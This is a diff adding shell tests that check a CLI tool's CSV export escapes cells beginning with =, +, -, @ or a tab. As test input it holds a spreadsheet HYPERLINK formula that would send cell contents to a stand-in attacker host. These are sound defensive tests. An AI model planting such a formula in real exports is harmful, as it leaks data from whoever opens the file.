@@ -118,4 +118,40 @@ check "--help names the formats" grep -q 'json|csv|sarif' "$WN_WORLD/help"
 "$WINNOW" export --format=text 2> "$WN_WORLD/err"; expect_eq "unknown format exits 1" 1 $?
 check "unknown format said" grep -q "unknown format 'text'" "$WN_WORLD/err"
 NOTMUCH_CONFIG=$WN_WORLD/nonexistent "$WINNOW" export 2>/dev/null; expect_eq "no database exits 2" 2 $?
+
+# Cells a spreadsheet would evaluate (issue 18, point 3): text starting
+# with = + - @ or a tab gets a leading ', numbers winnow prints do not.
+formula='=HYPERLINK("http://attacker.example.org/?"&A1,"x")'
+"$WINNOW" mark "$WN_FX_A3" 1 valid --note "$formula" >/dev/null &&
+"$WINNOW" mark "$WN_FX_A3" 2 valid --note "-2+3" >/dev/null &&
+"$WINNOW" mark "$WN_FX_C1" 1 valid --note "@SUM(A1:A2)" >/dev/null &&
+"$WINNOW" mark "$WN_FX_A2" 1 false-positive --note "$(printf '\t+cmd')" >/dev/null
+expect_eq "notes that look like formulas written" 0 $?
+"$WINNOW" export --format=csv > "$WN_WORLD/formula.csv"
+expect_eq "export --format=csv exits 0" 0 $?
+check "CSV cells starting with = + - @ or a tab begin with '" /usr/bin/python3 - \
+	"$WN_WORLD/formula.csv" "$formula" <<'PY'
+import csv, sys
+with open(sys.argv[1], newline="", encoding="utf-8") as f:
+    rows = list(csv.reader(f, strict=True))
+note = rows[0].index("note")
+line = rows[0].index("line")
+notes = sorted(r[note] for r in rows[1:] if r[note] and not r[note].startswith("seen"))
+want = sorted(["'" + sys.argv[2], "'-2+3", "'@SUM(A1:A2)", "'\t+cmd"])
+ok = notes == want
+# No cell of the file, header included, starts a formula any more.
+ok = ok and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for c in r)
+# Numbers winnow formats stay numbers.
+ok = ok and all(r[line] == "" or r[line].isdigit() for r in rows[1:])
+if not ok:
+    print(notes, file=sys.stderr)
+sys.exit(0 if ok else 1)
+PY
+"$WINNOW" stats --format=csv --by=bot > "$WN_WORLD/stats.csv"
+expect_eq "stats --format=csv exits 0" 0 $?
+check "stats CSV: no cell starts a formula" /usr/bin/python3 -c '
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
+sys.exit(0 if len(rows) > 2 and not any(c[:1] in "=+-@\t\r" and c for r in rows for c in r) else 1)' \
+	"$WN_WORLD/stats.csv"
 wn_done
